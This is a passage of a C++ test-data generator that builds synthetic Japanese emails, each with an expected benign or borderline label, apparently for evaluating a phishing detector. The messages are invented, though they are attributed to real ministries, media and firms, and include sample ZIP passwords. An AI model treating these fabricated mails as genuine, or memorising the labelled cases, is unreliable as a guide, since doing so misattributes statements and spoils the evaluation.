    return "DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=" + domain + "; s=" + selector +
           ";\r\n\th=from:to:subject:date:message-id:mime-version;\r\n"
           "\tbh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=;\r\n"
           "\tb=Zm9yIGV2YWx1YXRpb24gb25seTsgbm90IGEgcmVhbCBzaWduYXR1cmUu";
}

void benign_ja(Collector& c) {
    {
        // MOFA's own mail magazine on the alliance, Taiwan and Ukraine, links to mofa.go.jp.
        Mail m;
        std::string to = "y.sato@example.ac.jp";
        m.trace = trace("mailmag@mofa.go.jp",
                        received("mailmag.mofa.go.jp", "192.0.2.10", "mx.example.ac.jp",
                                 "0123ABCD45", to, "Fri, 15 Nov 2024 17:00:41 +0900 (JST)"),
                        auth_results("mx.example.ac.jp", "pass", "mofa.go.jp", "pass", "mofa.go.jp",
                                     "pass", "mofa.go.jp"),
                        {dkim_stub("mofa.go.jp", "mailmag")});
        m.header_charset = "ISO-2022-JP";
        m.charset = "ISO-2022-JP";
        m.cte = "7bit";
        m.from_name = "外務省メールマガジン";
        m.from_addr = "mailmag@mofa.go.jp";
        m.to = to;
        m.subject = "外務省メールマガジン 第612号 日米首脳電話会談ほか";
        m.date = "Fri, 15 Nov 2024 17:00:36 +0900";
        m.message_id = "<20241115170036.mailmag612@mofa.go.jp>";
        m.extra = {"List-Unsubscribe: <https://www.mofa.go.jp/mofaj/mail/>", "Precedence: bulk"};
        m.text =
            "━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━\n"
            "外務省メールマガジン 第612号\n"
            "━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━\n\n"
            "■日米首脳電話会談\n"
            "石破総理大臣は、トランプ次期米国大統領と電話会談を行い、\n"
            "日米同盟を更なる高みに引き上げていくことで一致しました。\n"
            "https://www.mofa.go.jp/mofaj/na/na1/us/page1_002345.html\n\n"
            "■台湾海峡の平和と安定に関する外務報道官談話\n"
            "台湾海峡の平和と安定は、国際社会全体にとって重要です。\n"
            "https://www.mofa.go.jp/mofaj/press/danwa/page4_006123.html\n\n"
            "■ウクライナ情勢に関する G7 外相声明\n"
            "ロシアによるウクライナ侵略を改めて強く非難しました。\n"
            "https://www.mofa.go.jp/mofaj/erp/c_see/ua/page1_002350.html\n\n"
            "■北朝鮮による弾道ミサイル発射について\n"
            "https://www.mofa.go.jp/mofaj/a_o/na/kp/page4_006130.html\n\n"
            "配信停止・登録情報の変更はこちら\n"
            "https://www.mofa.go.jp/mofaj/mail/\n"
            "発行:外務省大臣官房広報文化外交戦略課\n";
        c.add("ben_ja_mofa_mail_magazine", false, "benign: ministry newsletter on the lure topics",
              "ja", m);
    }
    {
        // METI's mail magazine on export control changes (Shift_JIS, quoted-printable).
        Mail m;
        std::string to = "k.nakamura@example.co.jp";
        m.trace = trace("bounce-anpo@meti.go.jp",
                        received("mail-out2.meti.go.jp", "192.0.2.12", "mx-in.example.co.jp",
                                 "4XvW1xY2z3a4", to, "Mon, 18 Nov 2024 10:00:12 +0900 (JST)"),
                        auth_results("mx-in.example.co.jp", "pass", "meti.go.jp", "pass",
                                     "meti.go.jp", "pass", "meti.go.jp"),
                        {dkim_stub("meti.go.jp", "s2024")});
        m.charset = "Shift_JIS";
        m.cte = "quoted-printable";
        m.from_name = "経済産業省 安全保障貿易管理";
        m.from_addr = "anpo-mailmag@meti.go.jp";
        m.to = to;
        m.subject = "【安全保障貿易管理】輸出貿易管理令等の一部改正について(お知らせ)";
        m.date = "Mon, 18 Nov 2024 10:00:08 +0900";
        m.message_id = "<202411180100.anpo-mailmag.0451@meti.go.jp>";
        m.extra = {"List-Unsubscribe: <https://www.meti.go.jp/policy/anpo/mailmagazine.html>"};
        m.text =
            "安全保障貿易管理 メールマガジン\n\n"
            "輸出貿易管理令及び外国為替令の一部を改正する政令が公布されました。\n"
            "先端半導体製造装置等に関する規制の見直しが含まれます。\n"
            "施行日、改正の概要及び該非判定に関するQ&Aは以下をご覧ください。\n\n"
            "https://www.meti.go.jp/policy/anpo/law_document/tutatu/t07sonota/kaisei.html\n\n"
            "また、12月に輸出管理説明会(オンライン)を開催します。\n"
            "https://www.meti.go.jp/policy/anpo/seminer/shiryo.html\n\n"
            "本メールは配信専用です。\n"
            "経済産業省 貿易経済安全保障局 安全保障貿易管理課\n";
        c.add("ben_ja_meti_export_control_mail_magazine", false,
              "benign: ministry newsletter on export control", "ja", m);
    }
    {
        // A JIIA report mailed with an ordinary PDF.
        Mail m;
        std::string to = "t.fujita@example.or.jp";
        m.trace = trace("info@jiia.or.jp",
                        received("mail.jiia.or.jp", "192.0.2.30", "mx.example.or.jp", "5566AA77BB",
                                 to, "Wed, 20 Nov 2024 11:30:22 +0900 (JST)"),
                        auth_results("mx.example.or.jp", "pass", "jiia.or.jp", "pass", "jiia.or.jp",
                                     "pass", "jiia.or.jp"));
        m.from_name = "日本国際問題研究所";
        m.from_addr = "info@jiia.or.jp";
        m.to = to;
        m.subject = "【JIIA】研究レポート「北朝鮮の核・ミサイル開発と日本の対応」のご案内";
        m.date = "Wed, 20 Nov 2024 11:30:18 +0900";
        m.message_id = "<20241120023018.7781@jiia.or.jp>";
        m.text =
            "関係各位\n\n"
            "日本国際問題研究所では、研究レポート「北朝鮮の核・ミサイル開発と日本の対応」を\n"
            "公表いたしました。PDFを添付いたしますので、ご高覧いただけますと幸いです。\n"
            "当研究所ウェブサイトにも掲載しております。\n"
            "https://www.jiia.or.jp/research-report/\n\n"
            "公益財団法人 日本国際問題研究所\n研究調整部\n";
        m.attachments.push_back(
            {"JIIA_研究レポート_北朝鮮.pdf", "application/pdf",
             pdf_document("北朝鮮の核・ミサイル開発と日本の対応",
                          {"JIIA Research Report", "North Korea's nuclear and missile programs",
                           "and Japan's response"})});
        c.add("ben_ja_jiia_report_pdf", false, "benign: think-tank report PDF on North Korea", "ja",
              m);
    }
    {
        // Japanese PPAP, part 1: a partner's encrypted ZIP; the password follows separately.
        Mail m;
        std::string to = "k.nakamura@example.co.jp";
        m.trace = trace("s.yoshida@ntt-data.co.jp",
                        received("mgw2.ntt-data.co.jp", "192.0.2.55", "mx-in.example.co.jp",
                                 "4Xb1c2d3e4f5", to, "Thu, 21 Nov 2024 16:12:08 +0900 (JST)"),
                        auth_results("mx-in.example.co.jp", "pass", "ntt-data.co.jp", "pass",
                                     "ntt-data.co.jp", "pass", "ntt-data.co.jp"));
        m.from_name = "吉田 聡";
        m.from_addr = "s.yoshida@ntt-data.co.jp";
        m.to = to;
        m.subject = "【送付】輸出管理システム更改 要件定義書(第2版)";
        m.date = "Thu, 21 Nov 2024 16:12:04 +0900";
        m.message_id = "<OSZP286MB1234A5B6C7@OSZP286MB1234.JPNP286.PROD.OUTLOOK.COM>";
        m.extra = {"X-Mailer: Microsoft Outlook 16.0"};
        m.text =
            "中村様\n\n"
            "いつもお世話になっております。NTTデータの吉田です。\n\n"
            "輸出管理システム更改の要件定義書(第2版)を送付いたします。\n"
            "該非判定ワークフローの変更点を反映しております。\n"
            "パスワードは別メールにてお送りいたします。\n\n"
            "ご確認のほど、よろしくお願いいたします。\n\n"
            "--\n株式会社NTTデータ 公共統括本部\n吉田 聡\n";
        m.attachments.push_back(
            {"要件定義書_第2版.zip", "application/x-zip-compressed",
             eval_encrypted_zip({{"要件定義書_第2版.docx",
                                  word_docx({"輸出管理システム更改 要件定義書 第2版", "1. 背景",
                                             "2. 該非判定ワークフロー", "3. 非機能要件"})}},
                                "Nd7#kQ2v"),
             "2047-utf8"});
        c.add("ben_ja_ppap_encrypted_zip_password_separate", false,
              "borderline: partner's encrypted ZIP of a plain docx (PPAP), password in a second "
              "mail; suspicious is acceptable, malicious is not",
              "ja", m);
    }
    {
        // Japanese PPAP, part 2: the password mail.
        Mail m;
        std::string to = "k.nakamura@example.co.jp";
        m.trace = trace("s.yoshida@ntt-data.co.jp",
                        received("mgw2.ntt-data.co.jp", "192.0.2.55", "mx-in.example.co.jp",
                                 "4Xb1c2d3e4f6", to, "Thu, 21 Nov 2024 16:13:01 +0900 (JST)"),
                        auth_results("mx-in.example.co.jp", "pass", "ntt-data.co.jp", "pass",
                                     "ntt-data.co.jp", "pass", "ntt-data.co.jp"));
        m.from_name = "吉田 聡";
        m.from_addr = "s.yoshida@ntt-data.co.jp";
        m.to = to;
        m.subject = "【パスワード送付】輸出管理システム更改 要件定義書(第2版)";
        m.date = "Thu, 21 Nov 2024 16:12:58 +0900";
        m.message_id = "<OSZP286MB1234A5B6C8@OSZP286MB1234.JPNP286.PROD.OUTLOOK.COM>";
        m.extra = {"X-Mailer: Microsoft Outlook 16.0"};
        m.text =
            "中村様\n\n"
            "先ほどお送りしたファイルのパスワードをお知らせいたします。\n\n"
            "パスワード:Nd7#kQ2v\n\n"
            "よろしくお願いいたします。\n\n"
            "--\n株式会社NTTデータ 公共統括本部\n吉田 聡\n";
        c.add("ben_ja_ppap_password_mail", false, "benign: the PPAP password mail", "ja", m);
    }
    {
        // PPAP in one mail: zip and password together, from a real partner.
        Mail m;
        std::string to = "k.nakamura@example.co.jp";
        m.trace = trace("tanaka.m@tel.com",
                        received("mx-out.tel.com", "192.0.2.57", "mx-in.example.co.jp",
                                 "4Xc2d3e4f5g6", to, "Fri, 22 Nov 2024 09:45:30 +0900 (JST)"),
                        auth_results("mx-in.example.co.jp", "pass", "tel.com", "pass", "tel.com",
                                     "pass", "tel.com"));
        m.from_name = "田中 雅人";
        m.from_addr = "tanaka.m@tel.com";
        m.to = to;
        m.subject = "該非判定書の送付(エッチング装置 型番TX-4410)";
        m.date = "Fri, 22 Nov 2024 09:45:26 +0900";
        m.message_id = "<TYWP286MB2345B6C7D8@TYWP286MB2345.JPNP286.PROD.OUTLOOK.COM>";
        m.text =
            "中村様\n\n"
            "お世話になっております。東京エレクトロンの田中です。\n"
            "ご依頼いただきました該非判定書を、パスワード付きZIPにて送付いたします。\n\n"
            "パスワード:TX4410-gaihi\n\n"
            "(弊社規定によりパスワード付きで送付しております。お手数をおかけします。)\n"
            "ご不明点がございましたらご連絡ください。\n\n"
            "東京エレクトロン株式会社 輸出管理部\n田中 雅人\n";
        m.attachments.push_back(
            {"該非判定書_TX-4410.zip", "application/x-zip-compressed",
             eval_encrypted_zip(
                 {{"該非判定書_TX-4410.xlsx", excel_ooxml({{"項番", "該非", "根拠"},
                                                           {"3B001", "該当", "輸出令別表第1の7項"},
                                                           {"3B993", "非該当", ""}})}},
                 "TX4410-gaihi"),
             "2047-utf8"});
        c.add("ben_ja_ppap_zip_and_password_same_mail", false,
              "borderline: a partner's encrypted ZIP of a plain xlsx with the password in the "
              "same mail (common in Japan); suspicious is acceptable, malicious is not",
              "ja", m);
    }
    {
        // The IT department tells staff how to update Windows with PowerShell.
        Mail m;
        std::string to = "all-staff@example.go.jp";
        m.trace = trace("helpdesk@example.go.jp",
                        received("smtp-int.example.go.jp", "192.0.2.3", "mx01.example.go.jp",
                                 "4XzA1B2C3D4E", to, "Tue, 26 Nov 2024 09:00:05 +0900 (JST)"),
                        auth_results("mx01.example.go.jp", "pass", "example.go.jp", "pass",
                                     "example.go.jp", "pass", "example.go.jp"));
        m.from_name = "情報システム部 ヘルプデスク";
        m.from_addr = "helpdesk@example.go.jp";
        m.to = to;
        m.subject = "【重要】Windows 月例更新プログラムの適用について(11月)";
        m.date = "Tue, 26 Nov 2024 09:00:01 +0900";
        m.message_id = "<helpdesk-20241126-01@example.go.jp>";
        m.text =
            "職員各位\n\n"
            "情報システム部です。\n"
            "11月の Windows 月例更新プログラムが配信されています。\n"
            "本日中に PC を再起動し、更新を適用してください。\n\n"
            "適用状況は、PowerShell で次のコマンドを実行すると確認できます。\n"
            "  Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First 5\n\n"
            "なお、最近、マクロ付きの Word/Excel ファイルや、パスワード付き ZIP に入った\n"
            "ショートカット(.lnk)ファイルを使った標的型攻撃メールが確認されています。\n"
            "不審なファイルは開かず、ヘルプデスクまでご連絡ください。\n\n"
            "情報システム部 ヘルプデスク(内線 1234)\n";
        c.add("ben_ja_it_notice_powershell_macro_lnk_words", false,
              "benign: IT notice naming PowerShell, macros and shortcuts", "ja", m);
    }
    {
        // A phishing-drill announcement describing the lures in detail.
        Mail m;
        std::string to = "all-staff@example.go.jp";
        m.trace = trace("security@example.go.jp",
                        received("smtp-int.example.go.jp", "192.0.2.3", "mx01.example.go.jp",
                                 "4XzA1B2C3D4F", to, "Wed, 27 Nov 2024 13:30:12 +0900 (JST)"),
                        auth_results("mx01.example.go.jp", "pass", "example.go.jp", "pass",
                                     "example.go.jp", "pass", "example.go.jp"));
        m.header_charset = "ISO-2022-JP";
        m.charset = "ISO-2022-JP";
        m.cte = "7bit";
        m.from_name = "情報セキュリティ室";
        m.from_addr = "security@example.go.jp";
        m.to = to;
        m.subject = "標的型メール訓練の実施について(事前周知)";
        m.date = "Wed, 27 Nov 2024 13:30:08 +0900";
        m.message_id = "<sec-drill-2024q4@example.go.jp>";
        m.text =
            "職員各位\n\n"
            "情報セキュリティ室です。12月上旬に標的型メール訓練を実施します。\n\n"
            "近年、実在の省庁や研究機関、報道機関を装い、日米同盟や台湾情勢、\n"
            "半導体の輸出規制などを話題にしたメールが届く事例が報告されています。\n"
            "フリーメールから送られ、パスワード付きZIPとパスワードが同じメールに記載され、\n"
            "ZIPの中には文書に見せかけたショートカットが入っているのが典型です。\n\n"
            "訓練メールを開いてしまっても罰則はありません。\n"
            "不審なメールを受け取った場合は、情報セキュリティ室へ転送してください。\n\n"
            "情報セキュリティ室\n";
        c.add("ben_ja_phishing_drill_notice", false, "benign: security notice describing the lures",
              "ja", m);
    }
    {
        // NHK news alert on a North Korean missile launch.
        Mail m;
        std::string to = "y.sato@example.ac.jp";
        m.trace = trace("news-bounce@nhk.or.jp",
                        received("mlout01.nhk.or.jp", "192.0.2.71", "mx.example.ac.jp",
                                 "1A2B3C4D5E", to, "Thu, 31 Oct 2024 08:31:15 +0900 (JST)"),
                        auth_results("mx.example.ac.jp", "pass", "nhk.or.jp", "pass", "nhk.or.jp",
                                     "pass", "nhk.or.jp"));
        m.from_name = "NHKニュース";
        m.from_addr = "news@nhk.or.jp";
        m.to = to;
        m.subject = "[速報] 北朝鮮が弾道ミサイル発射 防衛省";
        m.date = "Thu, 31 Oct 2024 08:31:11 +0900";
        m.message_id = "<nhk-news-20241031-0831@nhk.or.jp>";
        m.extra = {"List-Unsubscribe: <https://www3.nhk.or.jp/news/mail/>"};
        m.html =
            "<html><body><h3>北朝鮮が弾道ミサイル発射 防衛省</h3>"
            "<p>防衛省によりますと、北朝鮮から弾道ミサイルの可能性があるものが発射されました。"
            "政府は情報の収集と分析を急いでいます。</p>"
            "<p><a href=\"https://www3.nhk.or.jp/news/html/20241031/k10014623451000.html\">"
            "記事を読む</a></p><p><a href=\"https://www3.nhk.or.jp/news/mail/\">配信停止</a>"
            "</p></body></html>";
        c.add("ben_ja_nhk_news_alert_north_korea", false, "benign: news alert on missiles", "ja",
              m);
    }
    {
        // Nikkei digest on semiconductor export controls.
        Mail m;
        std::string to = "k.nakamura@example.co.jp";
        m.trace = trace("bounce@mail.nikkei.com",
                        received("mo12.mail.nikkei.com", "192.0.2.73", "mx-in.example.co.jp",
                                 "4Xd3e4f5g6h7", to, "Mon, 2 Dec 2024 07:00:44 +0900 (JST)"),
                        auth_results("mx-in.example.co.jp", "pass", "mail.nikkei.com", "pass",
                                     "nikkei.com", "pass", "nikkei.com"));
        m.from_name = "日経電子版";
        m.from_addr = "newsletter@nikkei.com";
        m.to = to;
        m.subject = "朝刊ニュースレター:米、対中半導体規制を強化 日本企業に影響";
        m.date = "Mon, 2 Dec 2024 07:00:40 +0900";
        m.message_id = "<nl.20241202.0700.88121@nikkei.com>";
        m.extra = {"List-Unsubscribe: <https://www.nikkei.com/mail/unsubscribe?u=88121>"};
        m.text =
            "日経電子版 朝刊ニュースレター 12月2日\n\n"
            "■米、対中半導体規制を強化 製造装置や高帯域メモリー対象\n"
            "https://www.nikkei.com/article/DGXZQOGN02A0B0S4A201C2000000/\n\n"
            "■経済安保推進法、重要技術の官民協議会が初会合\n"
            "https://www.nikkei.com/article/DGXZQOUA01C2D0E4A201C2000000/\n\n"
            "■ウクライナ支援、日本が追加で45億ドル\n"
            "https://www.nikkei.com/article/DGXZQOUA02E3F0G4A201C2000000/\n\n"
            "配信停止はこちら https://www.nikkei.com/mail/unsubscribe?u=88121\n";
        m.html =
            "<html><body><h2>朝刊ニュースレター</h2><ul>"
            "<li><a href=\"https://www.nikkei.com/article/DGXZQOGN02A0B0S4A201C2000000/\">"
            "米、対中半導体規制を強化 製造装置や高帯域メモリー対象</a></li>"
            "<li><a href=\"https://www.nikkei.com/article/DGXZQOUA01C2D0E4A201C2000000/\">"
            "経済安保推進法、重要技術の官民協議会が初会合</a></li>"
            "<li><a href=\"https://www.nikkei.com/article/DGXZQOUA02E3F0G4A201C2000000/\">"
            "ウクライナ支援、日本が追加で45億ドル</a></li></ul>"
            "<p><a href=\"https://www.nikkei.com/mail/unsubscribe?u=88121\">配信停止</a></p>"
            "</body></html>";
        c.add("ben_ja_nikkei_newsletter_semiconductors", false,
              "benign: newspaper digest on export controls", "ja", m);
    }
    {
        // A colleague forwards a MOFA press release, quoting the ministry's signature.
        Mail m;
        std::string to = "y.sato@example.ac.jp";
        m.trace = trace("h.inoue@example.ac.jp",
                        received("smtp.example.ac.jp", "192.0.2.5", "mx.example.ac.jp",
                                 "77AA88BB99", to, "Tue, 3 Dec 2024 12:05:33 +0900 (JST)"),
                        auth_results("mx.example.ac.jp", "pass", "example.ac.jp", "pass",
                                     "example.ac.jp", "pass", "example.ac.jp"));
        m.from_name = "井上 浩";
        m.from_addr = "h.inoue@example.ac.jp";
        m.to = to;
        m.subject = "Fwd: 【外務省】日米拡大抑止協議の開催について";
        m.date = "Tue, 3 Dec 2024 12:05:29 +0900";
        m.message_id = "<6f2e1d0c-9b8a-4765-a4b3-c2d1e0f9a8b7@example.ac.jp>";
        m.text =
            "佐藤先生\n\n"
            "ゼミで扱う参考として転送します。井上\n\n"
            "-------- Forwarded Message --------\n"
            "件名: 【外務省】日米拡大抑止協議の開催について\n"
            "日付: Mon, 2 Dec 2024 18:00:00 +0900\n"
            "差出人: 外務省 報道課 <press@mofa.go.jp>\n\n"
            "12月2日、東京において日米拡大抑止協議が開催されました。\n"
            "日本側からは外務省北米局参事官及び防衛省防衛政策局次長が、\n"
            "米側からは国務省及び国防省の関係者が出席しました。\n"
            "https://www.mofa.go.jp/mofaj/press/release/pressit_000001_01234.html\n\n"
            "外務省 北米局 日米安全保障条約課\n";
        c.add("ben_ja_colleague_forwards_mofa_release", false,
              "benign: forwarded ministry release inside the organisation", "ja", m);
    }
    {
        // A private person on gmail writing to a professor about the alliance.
        Mail m;
        std::string to = "y.sato@example.ac.jp";
        m.trace = trace("taro.yamada.1987@gmail.com",
                        received("mail-pf1-f180.google.com", "198.51.100.180", "mx.example.ac.jp",
                                 "ACE0123456", to, "Sat, 7 Dec 2024 22:41:09 +0900 (JST)"),
                        gmail_auth("mx.example.ac.jp", "taro.yamada.1987@gmail.com"),
                        {gmail_hop("b0c1", "Sat, 7 Dec 2024 05:41:07 -0800 (PST)")});
        m.from_name = "山田太郎";
        m.from_addr = "taro.yamada.1987@gmail.com";
        m.to = to;
        m.subject = "日米同盟に関するご著書について(質問)";
        m.date = "Sat, 7 Dec 2024 22:41:03 +0900";
        m.message_id = "<CAM4x8Lq2P0vZy7kT1s@mail.gmail.com>";
        m.text =
            "佐藤先生\n\n"
            "突然のメールで失礼いたします。\n"
            "先生のご著書『日米同盟の論理』を拝読した会社員の山田と申します。\n"
            "第5章の拡大抑止の議論について、一点質問させてください。\n"
            "核の傘の信頼性は、米国の政権交代によってどの程度変わり得るとお考えでしょうか。\n\n"
            "ご多忙と存じますので、お返事は無理のない範囲で結構です。\n\n"
            "山田太郎\n";
        c.add("ben_ja_personal_gmail_alliance_question", false,
              "benign: a private person on free mail writing about the alliance", "ja", m);
    }
    {
        // An attendance sheet for a lawmakers' study group: an xlsx without macros.
        Mail m;
        std::string to = "hisho.tanabe@example.jp";
        m.trace = trace(
            "jimukyoku@spf.org",
            received("mail.spf.org", "192.0.2.90", "mx.example.jp", "0C1D2E3F40", to,
                     "Mon, 9 Dec 2024 15:20:19 +0900 (JST)"),
            auth_results("mx.example.jp", "pass", "spf.org", "pass", "spf.org", "pass", "spf.org"));
        m.from_name = "笹川平和財団 安全保障研究グループ";
        m.from_addr = "jimukyoku@spf.org";
        m.to = to;
        m.subject = "議員勉強会「台湾海峡の平和と安定」出欠表のご送付";
        m.date = "Mon, 9 Dec 2024 15:20:15 +0900";
        m.message_id = "<20241209062015.3391@spf.org>";
        m.text =
            "田辺事務所 ご担当者様\n\n"
            "笹川平和財団 安全保障研究グループでございます。\n"
            "1月16日開催の議員勉強会「台湾海峡の平和と安定」の出欠表をお送りします。\n"
            "ご記入のうえ、1月8日までにご返送いただけますと幸いです。\n\n"
            "公益財団法人 笹川平和財団 安全保障研究グループ\n";
        m.attachments.push_back(
            {"議員勉強会_出欠表.xlsx",
             "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
             excel_ooxml({{"事務所名", "出欠", "代理出席者"}, {"", "", ""}})});
        c.add("ben_ja_study_group_attendance_xlsx", false,
              "benign: lawmakers' study group form, xlsx without macros", "ja", m);
    }
    {
        // A lawmaker's secretary on free mail with an agenda PDF: a hard, real practice.
        Mail m;
        std::string to = "t.fujita@example.or.jp";
        m.trace = trace(
            "kondo.office.hisho@yahoo.co.jp",
            received("sonic310-11.consmr.mail.kks.yahoo.co.jp", "198.51.100.90", "mx.example.or.jp",
                     "BEEF5511CC", to, "Tue, 10 Dec 2024 19:02:40 +0900 (JST)"),
            auth_results("mx.example.or.jp", "pass", "yahoo.co.jp", "pass", "yahoo.co.jp", "pass",
                         "yahoo.co.jp"));
        m.from_name = "近藤事務所 秘書 大野";
        m.from_addr = "kondo.office.hisho@yahoo.co.jp";
        m.to = to;
        m.subject = "勉強会でのご講演の件(1月22日)";
        m.date = "Tue, 10 Dec 2024 19:02:36 +0900";
        m.message_id = "<1733824956.44.hisho@yahoo.co.jp>";
        m.text =
            "藤田先生\n\n"
            "先日はお電話にて失礼いたしました。近藤事務所の大野でございます。\n"
            "1月22日の勉強会でのご講演につき、当日の次第をお送りいたします。\n"
            "ご講演は30分、その後質疑応答を20分程度予定しております。\n\n"
            "何卒よろしくお願い申し上げます。\n\n"
            "衆議院議員 近藤 事務所\n秘書 大野\n";
        m.attachments.push_back(
            {"勉強会次第_0122.pdf", "application/pdf",
             pdf_document("勉強会次第", {"Study group, 22 January", "1. Opening",
                                         "2. Lecture: Japan-China relations", "3. Q&A"})});
        c.add("ben_ja_lawmaker_secretary_free_mail_pdf", false,
              "borderline: a lawmaker's secretary writes from free mail (common practice); "
              "suspicious is acceptable, malicious is not",
              "ja", m);
    }
    {
        // JAXA press release mailing from jaxa.jp.
        Mail m;
        std::string to = "m.ito@space.example.ac.jp";
        m.trace = trace("press-bounce@jaxa.jp",
                        received("mlsv.jaxa.jp", "192.0.2.95", "mx.space.example.ac.jp",
                                 "AA11BB22CC", to, "Thu, 12 Dec 2024 15:00:28 +0900 (JST)"),
                        auth_results("mx.space.example.ac.jp", "pass", "jaxa.jp", "pass", "jaxa.jp",
                                     "pass", "jaxa.jp"),
                        {dkim_stub("jaxa.jp", "jx1")});
        m.from_name = "JAXA 広報部";
        m.from_addr = "press@jaxa.jp";
        m.to = to;
        m.subject = "【JAXAプレスリリース】H3ロケット5号機の打上げ日時について";
        m.date = "Thu, 12 Dec 2024 15:00:24 +0900";
        m.message_id = "<press.20241212.1500@jaxa.jp>";
        m.text =
            "報道関係者 各位\n\n"
            "宇宙航空研究開発機構(JAXA)は、H3ロケット5号機による準天頂衛星\n"
            "「みちびき」の打上げ日時を決定しましたのでお知らせします。\n\n"
            "詳細:https://www.jaxa.jp/press/2024/12/20241212-1_j.html\n\n"
            "国立研究開発法人 宇宙航空研究開発機構 広報部\n";
        c.add("ben_ja_jaxa_press_release", false, "benign: JAXA's own press mailing", "ja", m);
    }
    {
        // MOD press release notification from mod.go.jp on procurement.
        Mail m;
        std::string to = "k.nakamura@example.co.jp";
        m.trace = trace("atla-info@mod.go.jp",
                        received("mail2.mod.go.jp", "192.0.2.97", "mx-in.example.co.jp",
                                 "4Xe4f5g6h7i8", to, "Fri, 13 Dec 2024 17:15:52 +0900 (JST)"),
                        auth_results("mx-in.example.co.jp", "pass", "mod.go.jp", "pass",
                                     "mod.go.jp", "pass", "mod.go.jp"));
        m.from_name = "防衛装備庁";
        m.from_addr = "atla-info@mod.go.jp";
        m.to = to;
        m.subject = "【防衛装備庁】中央調達に係る入札公告(12月13日)";
        m.date = "Fri, 13 Dec 2024 17:15:48 +0900";
        m.message_id = "<atla-20241213-171548@mod.go.jp>";
        m.text =
            "登録者 各位\n\n"
            "防衛装備庁ホームページに、中央調達に係る入札公告を掲載しました。\n"
            "詳細は以下のページをご確認ください。\n\n"
            "https://www.mod.go.jp/atla/nyusatsu/index.html\n\n"
            "本メールは送信専用アドレスから配信しています。\n"
            "防衛装備庁 調達管理部\n";
        c.add("ben_ja_atla_procurement_notice", false,
              "benign: procurement notice from the real domain", "ja", m);
    }
    {
        // A Microsoft 365 sharing notification for a document on a Taiwan scenario.
        Mail m;
        std::string to = "t.fujita@example.or.jp";
        m.trace = trace(
            "no-reply@sharepointonline.com",
            received("JPN01-OS0-obe.outbound.protection.outlook.com", "192.0.2.112",
                     "mx.example.or.jp", "5F4E3D2C1B", to, "Mon, 16 Dec 2024 10:44:03 +0900 (JST)"),
            auth_results("mx.example.or.jp", "pass", "sharepointonline.com", "pass",
                         "sharepointonline.com", "pass", "sharepointonline.com"));
        m.from_name = "井上 浩 (SharePoint Online)";
        m.from_addr = "no-reply@sharepointonline.com";
        m.to = to;
        m.subject = "井上 浩 さんが「台湾有事シナリオ検討_v4.docx」を共有しました";
        m.date = "Mon, 16 Dec 2024 01:43:59 +0000";
        m.message_id = "<a2b4c6d8-e0f2-4a6c-8e0a-2c4e6a8c0e2a@sharepointonline.com>";
        m.html =
            "<html><body><p>井上 浩 さんがファイルを共有しました</p>"
            "<p>次回の研究会で議論する前に目を通しておいてください。</p>"
            "<p><a href=\"https://exampleacjp.sharepoint.com/:w:/s/anpo-kenkyu/"
            "EbX1y2Z3a4B5c6D7e8F9g0?e=AbCdEf\">台湾有事シナリオ検討_v4.docx</a></p>"
            "<p>Microsoft 365</p></body></html>";
        c.add("ben_ja_sharepoint_share_taiwan_scenario", false,
              "benign: cloud sharing notification with a lure-like file name", "ja", m);
    }
    {
        // A colleague sends minutes as an ordinary docx linking to MOFA.
        Mail m;
        std::string to = "kobayashi.h@example.go.jp";
        m.trace = trace("m.kato@example.go.jp",
                        received("smtp-int.example.go.jp", "192.0.2.3", "mx01.example.go.jp",
                                 "4XzA1B2C3D50", to, "Tue, 17 Dec 2024 18:20:44 +0900 (JST)"),
                        auth_results("mx01.example.go.jp", "pass", "example.go.jp", "pass",
                                     "example.go.jp", "pass", "example.go.jp"));
        m.from_name = "加藤 美紀";
        m.from_addr = "m.kato@example.go.jp";
        m.to = to;
        m.cc = "s.mori@example.go.jp";
        m.subject = "日韓安全保障対話 議事概要(案)";
        m.date = "Tue, 17 Dec 2024 18:20:40 +0900";
        m.message_id = "<e5d4c3b2-a190-4f8e-9d7c-6b5a49382716@example.go.jp>";
        m.text =
            "小林さん\n\n"
            "本日の日韓安全保障対話の議事概要(案)を添付します。\n"
            "北朝鮮関連の部分を中心に、明日昼までにご確認いただけますか。\n\n"
            "加藤\n";
        m.attachments.push_back(
            {"議事概要案_日韓安保対話.docx",
             "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
             word_docx_with_link(
                 {"日韓安全保障対話 議事概要(案)", "1. 北朝鮮情勢", "2. 日米韓協力"},
                 "https://www.mofa.go.jp/mofaj/a_o/na/kr/page1_001234.html",
                 "外務省 日韓関係ページ"),
             "2047-utf8"});
        c.add("ben_ja_internal_minutes_docx_with_hyperlink", false,
              "benign: internal docx with an ordinary hyperlink", "ja", m);
    }
    {
        // An older mailer: Shift_JIS base64 from an ISP account, retired diplomat's essay.
        Mail m;
        std::string to = "y.sato@example.ac.jp";
        m.trace = trace("k-ishikawa@nifty.com",
                        received("mx.nifty.com", "192.0.2.120", "mx.example.ac.jp", "ABAB1212CD",
                                 to, "Wed, 18 Dec 2024 06:12:30 +0900 (JST)"),
                        auth_results("mx.example.ac.jp", "pass", "nifty.com", "pass", "nifty.com",
                                     "pass", "nifty.com"));
        m.charset = "Shift_JIS";
        m.cte = "base64";
        m.from_name = "石川 和夫";
        m.from_addr = "k-ishikawa@nifty.com";
        m.to = to;
        m.subject = "拙稿「ロシア・ウクライナ戦争と北東アジア」送付";
        m.date = "Wed, 18 Dec 2024 06:12:26 +0900";
        m.message_id = "<20241218061226.A1B2.k-ishikawa@nifty.com>";
        m.extra = {"X-Mailer: Becky! ver. 2.81.05"};
        m.text =
            "佐藤先生\n\n"
            "ご無沙汰しております。石川です。\n"
            "霞関会の会報に寄稿した拙稿を添付いたします。\n"
            "ロシアと北朝鮮の軍事協力が北東アジアの安全保障に与える影響について、\n"
            "大使在任時の経験も踏まえて書きました。ご笑覧いただければ幸いです。\n\n"
            "石川 和夫\n";
        m.attachments.push_back(
            {"ishikawa_essay.docx",
             "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
             word_docx({"ロシア・ウクライナ戦争と北東アジア", "石川 和夫(元駐ロシア公使)"})});
        c.add("ben_ja_retired_diplomat_isp_shift_jis_docx", false,
